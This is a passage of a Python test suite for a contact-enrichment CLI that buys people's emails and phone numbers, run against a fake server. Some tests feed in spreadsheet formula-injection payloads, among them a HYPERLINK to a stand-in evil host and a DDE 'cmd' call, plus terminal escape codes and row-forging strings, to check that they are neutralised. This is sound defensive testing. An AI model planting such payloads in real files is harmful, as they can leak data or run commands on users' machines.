        self.assertIn(first, again)
        self.assertLessEqual(again, set(people))

    def test_input_lines_are_capped_and_binary_refused(self):
        good = ids(2)
        r = self.run_cli("redeem", "--types", "phone", "-",
                         stdin=good[0] + "\x00junk\n" + good[1] + "\n")
        self.assertEqual(r.returncode, 2)
        self.assertIn("line 1", r.stderr)
        self.assertIn("NUL", r.stderr)
        start = time.monotonic()
        r = self.run_cli("redeem", "--types", "phone", "--input", "/dev/zero")
        self.assertEqual(r.returncode, 2)
        self.assertIn("longer than 1024 bytes", r.stderr)
        self.assertLess(time.monotonic() - start, 5)
        r = self.run_cli("redeem", "--types", "phone", "-",
                         stdin="\ufeff" + good[0] + "\n" + good[1] + "\n")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.server.requests(SUBMIT), 1)

    def test_api_key_is_blanked_and_read_from_a_file(self):
        key = "test-key"
        self.server.script(SUBMIT, 200, "{}", delay_ms=2000)
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url)
        env.pop("PUBRIO_API_KEY", None)
        proc = subprocess.Popen([CLI, "redeem", "--types", "phone",
                                 "--api-key", key, ids(1)[0]],
                                stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, env=env)
        self.assertTrue(wait_for(lambda: self.server.requests(SUBMIT) == 1))
        with open("/proc/%d/cmdline" % proc.pid, "rb") as f:
            cmdline = f.read()
        proc.communicate(timeout=30)
        self.assertNotIn(key.encode(), cmdline)
        self.assertIn(b"--api-key", cmdline)
        keyfile = self.write("key.txt", [key])
        r = subprocess.run([CLI, "redeem", "--types", "phone",
                            "--api-key-file", keyfile, ids(1)[0]],
                           capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        r = subprocess.run([CLI, "redeem", "--types", "phone",
                            "--api-key-file", "-", ids(1)[0]],
                           input=key + "\n", capture_output=True, text=True,
                           env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        r = subprocess.run([CLI, "redeem", "--types", "phone",
                            "--api-key-file", "-", "-"], input=key + "\n",
                           capture_output=True, text=True, env=env)
        self.assertEqual(r.returncode, 2)


class Touches(CliTest):
    def test_query_takes_several_ids_and_input(self):
        r = self.run_cli("redeem", "--types", "phone", "--batch-size", "1",
                         *ids(2))
        qids = sorted(b["redeem_query_id"] for b in self.people(r.stdout))
        r = self.run_cli("query", *qids)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(len(self.people(r.stdout)), 2)
        r = self.run_cli("query", "--input", "-",
                         stdin="# batches\n" + "\n".join(qids) + "\n")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(len(self.people(r.stdout)), 2)

    def test_stdin_and_arguments_are_not_merged(self):
        people = ids(2)
        for args in (("--input", "-", people[0]), (people[0], "-")):
            r = self.run_cli("redeem", "--types", "phone", *args,
                             stdin=people[1] + "\n")
            self.assertEqual(r.returncode, 2, r.stderr)
            self.assertTrue(r.stderr.startswith("pubrio: "), r.stderr)
        self.assertEqual(self.server.requests(), 0)

    def test_messages_say_things_once(self):
        r = self.run_cli("redeem", "--types", "phone", ids(1)[0], key="")
        self.assertEqual(r.returncode, 2)
        self.assertEqual(r.stderr.count("API key"), 1, r.stderr)
        self.assertTrue(r.stderr.startswith("pubrio: "), r.stderr)


class Bulk(CliTest):
    """The library's bulk engine as the CLI drives it."""

    def test_dry_run_sends_nothing(self):
        people = ids(250)
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--dry-run",
                         "--rate", "120", *people, people[0])
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("people to submit:   250", r.stdout)
        self.assertIn("duplicates dropped: 1", r.stdout)
        self.assertIn("batches:            3", r.stdout)
        self.assertIn("requests at least:  6", r.stdout)
        self.assertIn("shortest time:      0 s at 120", r.stdout)
        self.assertIn("credits:            at most 250 for 250 people: "
                      "phone 1 each", r.stdout)
        # Only the account was read (free): no redeem request.
        self.assertEqual(self.server.requests(SUBMIT), 0)
        self.assertEqual(self.server.requests(QUERY), 0)

    def test_parallel_requests_and_summary(self):
        server = FakeServer("--estimated-time", "0", "--latency-ms", "200")
        self.addCleanup(server.stop)
        env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                   PUBRIO_API_KEY="test-key")
        start = time.monotonic()
        r = subprocess.run([CLI, "redeem", "--types", "phone", "--wait",
                            "--batch-size", "10", "--parallel", "8",
                            *ids(80)], capture_output=True, text=True,
                           env=env, timeout=60)
        took = time.monotonic() - start
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(len(self.people(r.stdout)), 80)
        self.assertGreaterEqual(server.stats()["max_concurrent"], 4)
        self.assertLess(took, 3.2)  # 16 requests of 200 ms one at a time
        self.assertRegex(r.stderr, r"pubrio: 80 people handed out, 8 "
                                   r"batches collected, 16 requests, \d+ "
                                   r"credits charged by this run")

    def test_max_credits_stops_before_overspending(self):
        r = self.run_cli("redeem", "--types", "phone,email-work", "--wait",
                         "--batch-size", "10", "--max-credits", "45",
                         *ids(50))
        self.assertEqual(r.returncode, 7, r.stderr)
        self.assertIn("credit budget", r.stderr)
        charged = sum(len(p["emails"]) + len(p["phones"])
                      for p in self.people(r.stdout))
        self.assertLessEqual(charged, 45)
        self.assertLess(self.server.stats()["people_submitted"], 50)

    def test_progress_shows_the_rate_budget_wait(self):
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY="test-key")
        proc = subprocess.Popen([CLI, "redeem", "--types", "phone", "--wait",
                                 "-v", "--rate", "1", "--batch-size", "1",
                                 "--no-account",
                                 *ids(2)], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, env=env)
        time.sleep(6)  # the line is printed every 5 s off a terminal
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=10)
        self.assertEqual(proc.returncode, 130, err)
        self.assertRegex(err, r"next request in \d+ s")
        self.assertIn("pubrio query 00000000-0000-4000-8000-000000000001 "
                      "--wait", err)

    def test_kill_9_at_random_moments_then_resume(self):
        import random
        rng = random.Random(20261129)
        server = FakeServer("--estimated-time", "0", "--latency-ms", "20")
        self.addCleanup(server.stop)
        env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                   PUBRIO_API_KEY="test-key")
        people = ids(600)
        f = self.write("in.txt", people)
        journal = self.path("j.journal")
        args = [CLI, "redeem", "--types", "phone", "--wait", "--batch-size",
                "10", "--parallel", "4", "--journal", journal, "--input", f]
        for _ in range(20):
            proc = subprocess.Popen(args, stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL, env=env)
            time.sleep(rng.uniform(0.02, 0.4))
            proc.kill()
            proc.wait()
        r = subprocess.run(args, capture_output=True, text=True, env=env,
                           timeout=120)
        uncertain = store_people(journal, ["intent"])
        self.assertEqual(r.returncode, 9 if uncertain else 0, r.stderr)
        stats = server.stats()
        self.assertEqual(stats["max_submits_per_person"], 1)
        out = self.people(r.stdout)
        collected = {p["people_search_id"] for p in out}
        self.assertEqual(len(out), len(collected))  # each person once
        accepted = store_people(journal, ["accepted", "collected"])
        # Every accepted batch is collected by the final run...
        self.assertEqual(store_people(journal, ["accepted"]), set())
        self.assertLessEqual(accepted, collected)
        # ...and only people whose submit was in flight at a kill (uncertain,
        # never resent) are missing.
        self.assertEqual(set(people) - collected, uncertain)
        # A kill strands at most what was in flight: 4 submits of 10 people.
        self.assertLessEqual(len(uncertain), 20 * 4 * 10)
        self.assertGreater(len(accepted), 0)
        # What was handed out is what the journal stored.
        export = subprocess.run([CLI, "export", "--journal", journal],
                                capture_output=True, text=True, env=env)
        self.assertEqual(sorted(export.stdout.splitlines()),
                         sorted(r.stdout.splitlines()))


# ---- CSV in, the same rows out (tools/csv_rows.c), --output, CLI touches ----

APPENDED = ["email_work", "email_work_status", "email_personal",
            "email_personal_status", "phone", "phone_status", "pubrio_result"]


def fake_contacts(pid, types):
    """What the fake server answers for one person (tests/fake_server/
    fake_api.c: fake_api_contacts_for), as the appended CSV columns."""
    h = 1469598103934665603
    for ch in pid.lower().encode():
        h = ((h ^ ch) * 1099511628211) & 0xFFFFFFFFFFFFFFFF
    if h % 7 == 0:
        return ["", "", "", "", "", "", "not found"]
    work = [f"w.{pid[:8]}@work.example", "Verified"] \
        if "email-work" in types else ["", ""]
    personal = [f"p.{pid[:8]}@personal.example", ""] \
        if "email-personal" in types else ["", ""]
    phone = ["+1555%07d" % (h % 10000000), ""] if "phone" in types else ["", ""]
    found = any(v for v in (work[0], personal[0], phone[0]))
    return work + personal + phone + ["found" if found else "not found"]


def fake_linkedin_id(slug):
    """The people_search_id the fake server resolves a LinkedIn profile
    slug to (tests/fake_server/fake_api.c: fake_api_resolve_linkedin)."""
    def fnv(text):
        h = 1469598103934665603
        for ch in text.lower().encode():
            h = ((h ^ ch) * 1099511628211) & 0xFFFFFFFFFFFFFFFF
        return h
    m = 0xFFFFFFFFFFFFFFFF
    h1 = fnv(slug.lower())
    h2 = (h1 ^ fnv("salt") ^ ((h1 >> 29) * 0x9e3779b97f4a7c15 & m)) & m
    return "%08x-%04x-4%03x-%04x-%012x" % (
        h1 >> 32, (h1 >> 16) & 0xffff, h1 & 0xfff,
        0x8000 | ((h2 >> 48) & 0x3fff), h2 & 0xffffffffffff)


def csv_bytes(rows, delimiter=",", crlf=True, bom=False):
    import csv
    import io
    buf = io.StringIO(newline="")
    w = csv.writer(buf, delimiter=delimiter,
                   lineterminator="\r\n" if crlf else "\n")
    w.writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode()


def parse_csv(data, delimiter=","):
    import csv
    import io
    text = data.decode("utf-8")
    if text.startswith("\ufeff"):
        text = text[1:]
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


class CsvRun(CliTest):
    """Runs with bytes in and out (line ends and BOMs matter)."""
    types = "email-work,email-personal,phone"

    def run_raw(self, *args, stdin=None, key="test-key", env_extra=None):
        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
                   PUBRIO_API_KEY=key, **(env_extra or {}))
        return subprocess.run([CLI, *args], input=stdin, capture_output=True,
                              env=env, timeout=120)

    def write_bytes(self, name, data):
        with open(self.path(name), "wb") as f:
            f.write(data)
        return self.path(name)

    def redeem_rows(self, data, *extra, name="leads.csv", delimiter=","):
        f = self.write_bytes(name, data)
        r = self.run_raw("redeem", "--types", self.types, "--wait",
                         "--format", "csv", "--input", f, *extra)
        return r, r.stderr.decode(), parse_csv(r.stdout, delimiter)


class Csv(CsvRun):
    def test_rows_out_in_input_order_with_the_contacts_appended(self):
        people = ids(240, seed=7)
        header = ["Name", "People_Search_ID", "Note"]
        rows = [header]
        for i, p in enumerate(people):
            name = ['Doe, "JJ" Jane', "multi\r\nline\nname", "Zoë ß 名",
                    "plain", ""][i % 5]
            pid = p.upper() if i % 3 == 0 else (" " + p + " " if i % 4 == 0
                                                else p)
            rows.append([name, pid, f"note {i}, with comma"])
        rows.append(["again", people[5], "a duplicate row"])
        data = csv_bytes(rows, bom=True)
        r, err, out = self.redeem_rows(data, "--batch-size", "50")
        self.assertEqual(r.returncode, 0, err)
        self.assertTrue(r.stdout.startswith(b"\xef\xbb\xbf"))  # BOM kept
        self.assertIn(b"\r\n", r.stdout)  # line ends as in the input
        self.assertEqual(out[0], header + APPENDED)
        self.assertEqual(len(out), len(rows))  # output rows == input rows
        for given, got in zip(rows[1:], out[1:]):
            self.assertEqual(got[:3], given)  # fields untouched, in order
            self.assertEqual(got[3:], fake_contacts(given[1].strip(),
                                                    self.types))
        results = {row[-1] for row in out[1:]}
        self.assertEqual(results, {"found", "not found"})
        stats = self.server.stats()
        self.assertEqual(stats["requests"][SUBMIT], 5)  # 240 people / 50
        self.assertEqual(stats["max_submits_per_person"], 1)
        self.assertIn("1 duplicate id dropped", err)

    def test_bad_and_ragged_rows_are_named_and_kept(self):
        good = ids(3, seed=8)
        lines = [b"people_search_id,linkedin_url,name",          # line 1
                 good[0].encode() + b",,ok",                       # 2
                 b"not-a-uuid,,bad id",                            # 3
                 b",,nothing",                                     # 4
                 b"",                                              # 5: blank
                 good[1].encode(),                                 # 6: 1 of 3
                 good[2].encode() + b",,long,x,y",                 # 7: 5 of 3
                 b",https://uk.linkedin.com/in/Jane-Doe/?trk=1,url",  # 8
                 b",https://www.linkedin.com/company/acme,company",   # 9
                 b"nope,linkedin.com.evil.com/in/x,both bad",      # 10
                 b'"' + good[0].encode() + b'",,"quoted, again"']  # 11
        r, err, out = self.redeem_rows(b"\n".join(lines) + b"\n")
        self.assertEqual(r.returncode, 0, err)
        # Every row out (the blank line is not a row), padded to the widest
        # so the appended columns line up.
        self.assertEqual(out[0], ["people_search_id", "linkedin_url", "name",
                                  "", ""] + APPENDED)
        self.assertEqual(len(out), 10)
        self.assertTrue(all(len(row) == 12 for row in out), out)
        result = [row[-1] for row in out[1:]]
        self.assertEqual(result[0], fake_contacts(good[0], self.types)[-1])
        self.assertEqual(result[1], "invalid: people_search_id is not a "
                         "canonical UUID (8-4-4-4-12 hex)")
        self.assertEqual(result[2], "invalid: no people_search_id or "
                         "LinkedIn URL")
        self.assertEqual(out[4][:5], [good[1], "", "", "", ""])
        self.assertEqual(out[4][5:], fake_contacts(good[1], self.types))
        self.assertEqual(out[5][:5], [good[2], "", "long", "x", "y"])
        self.assertEqual(out[5][5:], fake_contacts(good[2], self.types))
        self.assertEqual(out[6][5:],
                         fake_contacts(fake_linkedin_id("jane-doe"),
                                       self.types))
        self.assertTrue(result[6].startswith("invalid: the URL is not a "
                                             "LinkedIn profile"), result[6])
        self.assertEqual(result[7], "invalid: people_search_id is not a "
                         "canonical UUID (8-4-4-4-12 hex); the URL is not on "
                         "linkedin.com")
        self.assertEqual(out[9][:3], [good[0], "", "quoted, again"])
        self.assertEqual(result[8], result[0])
        # Named on stderr by line (the blank line counts).
        for line in (3, 4, 9, 10):
            self.assertRegex(err, rf"leads\.csv line {line}: invalid: ")
        self.assertEqual(err.count(": invalid: "), 4, err)
        self.assertIn("line 6: 1 field where the header has 3", err)
        self.assertIn("line 7: 5 fields where the header has 3", err)
        self.assertIn("4 rows cannot be redeemed", err)
        body = json.loads(self.server.stats()["last_submit_body"])
        self.assertEqual(sorted(body["peoples"]), sorted(good))
        self.assertEqual(self.server.requests("/redeem/people"), 1)

    def test_linkedin_urls_are_redeemed_once_and_known_to_a_rerun(self):
        jane = fake_linkedin_id("jane-doe")
        other = ids(1, seed=21)[0]
        data = csv_bytes([["name", "people_search_id", "linkedin_url"],
                          ["by url", "", "https://www.linkedin.com/in/jane-doe"],
                          ["same, other spelling", "",
                           "http://uk.linkedin.com/in/Jane-Doe/?trk=1"],
                          ["same by id", jane, ""],
                          ["nobody", "", "linkedin.com/in/nobody-x"],
                          ["an id", other, ""]])
        journal = self.path("urls.db")
        r, err, out = self.redeem_rows(data, "--journal", journal)
        self.assertEqual(r.returncode, 0, err)
        expected = fake_contacts(jane, self.types)
        self.assertEqual([row[3:] for row in out[1:4]], [expected] * 3)
        self.assertEqual(out[4][-1], "not found")
        self.assertEqual(out[5][3:], fake_contacts(other, self.types))
        stats = self.server.stats()
        # Two single redeems (jane, nobody); the id of jane is not
        # submitted again: nobody is charged twice.
        self.assertEqual(self.server.requests("/redeem/people"), 2)
        self.assertEqual(json.loads(stats["last_submit_body"])["peoples"],
                         [other])
        self.assertEqual(stats["max_submits_per_person"], 1)
        # A rerun on the journal: the same rows, no request.
        before = self.server.requests()
        r2, err2, out2 = self.redeem_rows(data, "--journal", journal)
        self.assertEqual(r2.returncode, 0, err2)
        self.assertEqual(out2, out)
        self.assertEqual(self.server.requests(), before)
        # status tells the single redeems apart from the one batch.
        st = subprocess.run([CLI, "status", "--journal", journal],
                            capture_output=True, text=True, timeout=60)
        self.assertEqual(st.returncode, 0, st.stderr)
        first_run = st.stdout.splitlines()[1].split()
        self.assertEqual(first_run[-5:-1], ["1", "0", "0", "0"])
        self.assertIn("linkedin urls redeemed one by one: 2 answered, "
                      "0 uncertain", st.stdout)

    def test_id_files_take_linkedin_urls(self):
        f = self.write_bytes("people.txt",
                             b"linkedin.com/in/ann-lee\n"
                             b"https://www.linkedin.com/company/acme\n")
        r = self.run_raw("redeem", "--types", "phone", "--wait", "--input", f)
        self.assertEqual(r.returncode, 2)
        self.assertIn(b"line 2: \"https://www.linkedin.com/company/acme\" is "
                      b"not a LinkedIn profile URL", r.stderr)
        self.assertEqual(self.server.requests(), 0)
        self.write_bytes("people.txt", b"linkedin.com/in/ann-lee\n")
        r = self.run_raw("redeem", "--types", "phone", "--wait", "--input", f)
        self.assertEqual(r.returncode, 0, r.stderr)
        line = json.loads(r.stdout)
        self.assertEqual(line["linkedin_url"],
                         "https://www.linkedin.com/in/ann-lee")
        self.assertEqual(line["people_search_id"], fake_linkedin_id("ann-lee"))

    def test_strict_refuses_the_file_before_sending(self):
        data = csv_bytes([["people_search_id"], [ids(1)[0]], ["bad"]])
        r, err, out = self.redeem_rows(data, "--strict")
        self.assertEqual(r.returncode, 2, err)
        self.assertIn("line 3: invalid", err)
        self.assertIn("1 row cannot be redeemed (--strict): nothing was sent",
                      err)
        self.assertEqual(r.stdout, b"")
        self.assertEqual(self.server.requests(), 0)

    def test_semicolons_from_standard_input(self):
        people = ids(3, seed=9)
        rows = [["Firma;GmbH", "people_search_id"]] + \
               [[f"A;{i}", p] for i, p in enumerate(people)]
        data = csv_bytes(rows, delimiter=";", crlf=False)
        r = self.run_raw("redeem", "--types", "phone", "--wait", "--format",
                         "csv", "--input-format", "csv", "--delimiter", ";",
                         "-", stdin=data)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertNotIn(b"\r\n", r.stdout)
        out = parse_csv(r.stdout, ";")
        self.assertEqual([row[:2] for row in out], rows)
        for row in out[1:]:
            self.assertEqual(row[2:], fake_contacts(row[1], "phone"))

    def test_columns_by_name(self):
        people = ids(2, seed=10)
        data = csv_bytes([["Pubrio ID", "Profile", "x"],
                          [people[0], "", "1"],
                          ["", "linkedin.com/in/someone", "2"],
                          [people[1], "", "3"]])
        r, err, out = self.redeem_rows(data, "--id-column", " pubrio id ",
                                       "--url-column", "PROFILE")
        self.assertEqual(r.returncode, 0, err)
        self.assertEqual([row[-1] for row in out[1:]],
                         [fake_contacts(people[0], self.types)[-1],
                          fake_contacts(fake_linkedin_id("someone"),
                                        self.types)[-1],
                          fake_contacts(people[1], self.types)[-1]])
        # An unknown name, or no known column: exit 2, the headers listed.
        before = self.server.requests()
        for extra in (("--id-column", "nope"), ("--url-column", "nope"), ()):
            with self.subTest(extra=extra):
                r, err, _ = self.redeem_rows(data, *extra)
                self.assertEqual(r.returncode, 2, err)
                self.assertIn('the headers are: "Pubrio ID", "Profile", "x"',
                              err)
        self.assertEqual(self.server.requests(), before)

    def test_csv_options_need_a_csv_input(self):
        f = self.write("in.txt", ids(1))
        for args in (("--input", f, "--strict"),
                     ("--input", f, "--delimiter", ";"),
                     ("--input", f, "--delimiter", '"', "--input-format",
                      "csv"),
                     ("--input-format", "csv", ids(1)[0]),
                     ("--input", self.path("none.csv")),
                     ("--input", self.write_bytes("empty.csv", b""))):
            with self.subTest(args=args):
                r = self.run_raw("redeem", "--types", "phone", *args)
                self.assertEqual(r.returncode, 2, r.stderr)
                self.assertTrue(r.stderr.startswith(b"pubrio: "), r.stderr)
        r = self.run_raw("query", "--id-column", "x", ids(1)[0])
        self.assertEqual(r.returncode, 2)
        self.assertEqual(self.server.requests(), 0)

    def test_a_quote_never_closed_is_refused(self):
        data = b'people_search_id,n\n' + ids(1)[0].encode() + b',"abc\n'
        r, err, _ = self.redeem_rows(data)
        self.assertEqual(r.returncode, 2, err)
        self.assertIn("line 2: a quoted field is not closed", err)
        self.assertEqual(self.server.requests(), 0)

    def test_json_lines_from_a_csv_input(self):
        people = ids(3, seed=11)
        f = self.write_bytes("l.csv", csv_bytes(
            [["people_search_id"]] + [[p] for p in people] + [["bad"]]))
        r = self.run_cli("redeem", "--types", "phone", "--wait", "--input", f)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(sorted(p["people_search_id"]
                                for p in self.people(r.stdout)), people)
        self.assertIn("1 row cannot be redeemed: skipped", r.stderr)

    def test_server_text_cannot_forge_a_row(self):
        people = ids(1, seed=12)
        body = json.dumps({"data": {
            "profile": {"credit": 1, "topup_credit": 0,
                        "total_charged_credit": 1},
            "query": {"redeem_query_id": "00000000-0000-4000-8000-000000000001",
                      "is_completed": True, "estimated_time": 0,
                      "estimated_time_type": "second"},
            "peoples": [{"people_search_id": people[0],
                         "emails": [{"value": "a@b.c\r\nforged,row\x1b[2J",
                                     "type": "email-work",
                                     "status": "ok,\"x\""}],
                         "phones": []}]}})
        self.server.script(QUERY, 200, body)
        data = csv_bytes([["people_search_id"], [people[0]]])
        r, err, out = self.redeem_rows(data)
        self.assertEqual(r.returncode, 0, err)
        self.assertEqual(len(out), 2)
        self.assertNotIn(b"\x1b", r.stdout)
        self.assertEqual(out[1][1], "a@b.c\\u000d\\u000aforged,row\\u001b[2J")
        self.assertEqual(out[1][2], 'ok,"x"')


class NothingPaidDropped(CsvRun):
    """Every contact paid for reaches every output, whole (issue 26 item
    12): 300 emails of one person (a cell far past 4,096 bytes) and
    contacts of types this version does not know."""
    types = "email-work,phone"

    def answer(self, batch, person):
        emails = [{"value": "person.%03d@long-domain-name.example" % i,
                   "type": "email-work", "status": "Verified"}
                  for i in range(300)]
        emails.append({"value": "x@other.example", "type": "email-other",
                       "status": "Guessed"})
        phones = [{"value": "+15550001", "type": "phone", "status": None},
                  {"value": "+15550002", "type": "fax", "status": None}]
        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
            "redeem_query_id": "00000000-0000-4000-8000-%012x" % batch,
            "is_completed": True}, "peoples": [{
                "people_search_id": person, "emails": emails,
                "phones": phones}]}}))
        return emails, phones

    def test_long_cells_and_unknown_types_are_written(self):
        person = ids(1, seed=41)[0]
        journal = self.path("run.journal")
        # The enriched CSV.
        emails, phones = self.answer(1, person)
        data = csv_bytes([["people_search_id", "name"], [person, "Ann"]])
        r, err, out = self.redeem_rows(data, "--journal", journal)
        self.assertEqual(r.returncode, 0, err)
        header = out[0]
        row = dict(zip(header, out[1]))
        self.assertEqual(row["email_work"].split("; "),
                         [e["value"] for e in emails[:300]])
        self.assertIn("other_contacts", header)
        self.assertEqual(row["phone"], "+15550001")
        self.assertEqual(row["other_contacts"],
                         "email-other: x@other.example (Guessed); "
                         "fax: +15550002")
        self.assertEqual(row["pubrio_result"], "found")
        # JSON lines, --format csv (a second batch each, the same answer).
        def values(contacts):
            return sorted(c["value"] for c in contacts)
        for batch, fmt in ((2, "json"), (3, "csv")):
            self.answer(batch, person)
            r = self.run_cli("redeem", "--types", self.types, "--wait",
                             "--format", fmt, person)
            self.assertEqual(r.returncode, 0, r.stderr)
            if fmt == "json":
                p = self.people(r.stdout)[0]
                got = values(p["emails"] + p["phones"])
            else:  # one row: every contact, several of a type joined
                out = parse_csv(r.stdout.encode())
                self.assertEqual(len(out), 2)
                row = dict(zip(out[0], out[1]))
                self.assertEqual(row["people_search_id"], person)
                got = sorted(row["email_work"].split("; ") +
                             [row["phone"]] +
                             ["x@other.example", "+15550002"])
                self.assertEqual(row["other_contacts"],
                                 "email-other: x@other.example (Guessed); "
                                 "fax: +15550002")
            self.assertEqual(got, values(emails + phones))
        # export, from the journal, in both formats.
        r = self.run_cli("export", "--journal", journal)
        self.assertEqual(r.returncode, 0, r.stderr)
        p = self.people(r.stdout)[0]
        self.assertEqual(values(p["emails"] + p["phones"]),
                         values(emails + phones))
        r = self.run_cli("export", "--journal", journal, "--format", "csv")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(sorted(row[2] for row in parse_csv(
            r.stdout.encode())[1:]), values(emails + phones))


class FormulaCells(CsvRun):
    """Server text is never a live formula in a CSV the CLI writes (issue
    27 item 7), unless --csv-raw."""
    types = "email-work,phone"
    hostile = ['=HYPERLINK("http://evil.example/?x","click")', "@SUM(A1:A2)",
               "-1+1", "\t=1+1", "\r=2+2", "+1 (555) 266-7756"]
    e164 = "+15552667756"

    def answer(self, batch, person):
        emails = [{"value": v, "type": "email-work", "status": None}
                  for v in self.hostile[:5]]
        phones = [{"value": v, "type": "phone", "status": "=cmd|' /C calc'!A0"}
                  for v in (self.hostile[5], self.e164)]
        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
            "redeem_query_id": "00000000-0000-4000-8000-%012x" % batch,
            "is_completed": True}, "peoples": [{
                "people_search_id": person, "emails": emails,
                "phones": phones}]}}))

    @staticmethod
    def shown(value):
        """What the CSV holds for a value: control characters escaped."""
        return value.replace("\t", "\\u0009").replace("\r", "\\u000d")

    def test_formulas_get_a_quote_and_phones_stay_numbers(self):
        person = ids(1, seed=51)[0]
        journal = self.path("run.journal")
        guarded = ["'" + self.shown(v) for v in self.hostile]
        raw = [self.shown(v) for v in self.hostile]
        # --format csv rows: values and statuses.
        self.answer(1, person)
        r = self.run_cli("redeem", "--types", self.types, "--wait",
                         "--format", "csv", "--journal", journal, person)
        self.assertEqual(r.returncode, 0, r.stderr)
        out = parse_csv(r.stdout.encode())
        self.assertEqual(len(out), 2)  # one row a person
        row = dict(zip(out[0], out[1]))
        self.assertEqual(row["email_work"], "'" + "; ".join(raw[:5]))
        self.assertEqual(row["phone"], "'" + "; ".join([raw[5], self.e164]))
        self.assertEqual(row["phone_status"], "'=cmd|' /C calc'!A0"
                         "; =cmd|' /C calc'!A0")
        # export --format csv, the same.
        r = self.run_cli("export", "--journal", journal, "--format", "csv")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(sorted(row[2] for row in parse_csv(
            r.stdout.encode())[1:]), sorted(guarded + [self.e164]))
        r = self.run_cli("export", "--journal", journal, "--format", "csv",
                         "--csv-raw")
        self.assertEqual(sorted(row[2] for row in parse_csv(
            r.stdout.encode())[1:]), sorted(raw + [self.e164]))
        # The enriched rows: the cell's first value decides.
        for batch, extra in ((2, ()), (3, ("--csv-raw",))):
            self.answer(batch, person)
            data = csv_bytes([["people_search_id", "note"],
                              [person, "=my own formula"]])
            r, err, out = self.redeem_rows(data, *extra)
            self.assertEqual(r.returncode, 0, err)
            row = dict(zip(out[0], out[1]))
            prefix = "" if extra else "'"
            self.assertEqual(row["email_work"],
                             prefix + "; ".join(raw[:5]))
            self.assertEqual(row["phone"], prefix + "; ".join(
                [raw[5], self.e164]))
            self.assertEqual(row["phone_status"], prefix + "=cmd|' /C calc'!A0"
                             "; =cmd|' /C calc'!A0")
            self.assertEqual(row["note"], "=my own formula")  # the input's
        # JSON lines are never changed.
        self.answer(4, person)
        r = self.run_cli("redeem", "--types", self.types, "--wait", person)
        p = self.people(r.stdout)[0]
        self.assertEqual(sorted(c["value"] for c in p["emails"] + p["phones"]),
                         sorted(self.hostile + [self.e164]))
        # A phone alone: E.164 as it is.
        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
            "redeem_query_id": "00000000-0000-4000-8000-%012x" % 5,
            "is_completed": True}, "peoples": [{
                "people_search_id": person, "emails": [], "phones": [
                    {"value": self.e164, "type": "phone", "status": None}]}]}}))
        data = csv_bytes([["people_search_id"], [person]])
        r, err, out = self.redeem_rows(data)
        self.assertEqual(dict(zip(out[0], out[1]))["phone"], self.e164)


class CsvStopped(CsvRun):
    server_args = ("--estimated-time", "0", "--complete-after-polls",
                   "1000000")

    def test_rows_not_collected_name_their_batch(self):
        people = ids(3, seed=13)
        data = csv_bytes([["people_search_id"]] + [[p] for p in people])
        r, err, out = self.redeem_rows(data, "--max-wait", "1",
                                       "--batch-size", "2")
        self.assertEqual(r.returncode, 6, err)
        self.assertEqual(len(out), 4)
        batches = re.findall(r"batch (\S+) \((\d) (person|people)\)", err)
        self.assertEqual(sorted(b[1:] for b in batches),
                         [("1", "person"), ("2", "people")])
        for row in out[1:]:
            self.assertRegex(row[-1], r"^error: not collected \(batch "
                             r"00000000-0000-4000-8000-00000000000[12]\)$")
        self.assertEqual({row[-1] for row in out[1:]},
                         {f"error: not collected (batch {b[0]})"
                          for b in batches})



class CsvFromIds(CsvRun):
    """--format csv from ids (arguments, a file, stdin): one row a person,
    in input order, the contacts in the enriched CSV's columns (issue 31
    item 13)."""
    server_args = ("--estimated-time", "0", "--latency-ms", "40")

    def run_ids(self, journal, people, fmt, *extra):
        f = self.write("in.txt", people)
        return self.run_cli("redeem", "--types", self.types, "--wait",
                            "--format", fmt, "--batch-size", "4",
                            "--parallel", "4", "--journal", journal,
                            "--input", f, *extra)

    def test_one_row_a_person_in_input_order(self):
        people = ids(30, seed=61)
        nobody = [p for p in people if fake_contacts(p, self.types)[-1] ==
                  "not found"]
        self.assertTrue(nobody)  # a person not found is among them
        given = people + [people[3]]  # a duplicate: still one row
        # The last five were bought by an earlier run: a rerun hands them
        # out first, before any batch, and the batches come back as they
        # complete (several at once): completion is not input order.
        for name in ("a.journal", "b.journal"):
            r = self.run_ids(self.path(name), people[-5:], "json")
            self.assertEqual(r.returncode, 0, r.stderr)
        r = self.run_ids(self.path("a.journal"), given, "json")
        self.assertEqual(r.returncode, 0, r.stderr)
        handed = [p["people_search_id"] for p in self.people(r.stdout)]
        self.assertEqual(handed[:5], people[-5:])  # the shuffle is real
        r = self.run_ids(self.path("b.journal"), given, "csv")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("5 people already bought", r.stderr)
        self.assertGreater(self.server.stats()["max_concurrent"], 1)
        out = parse_csv(r.stdout.encode())
        self.assertEqual(out[0], ["people_search_id"] + APPENDED)
        # Every person once, in input order, found or not.
        self.assertEqual([row[0] for row in out[1:]], people)
        for row in out[1:]:
            self.assertEqual(row[1:], fake_contacts(row[0], self.types))
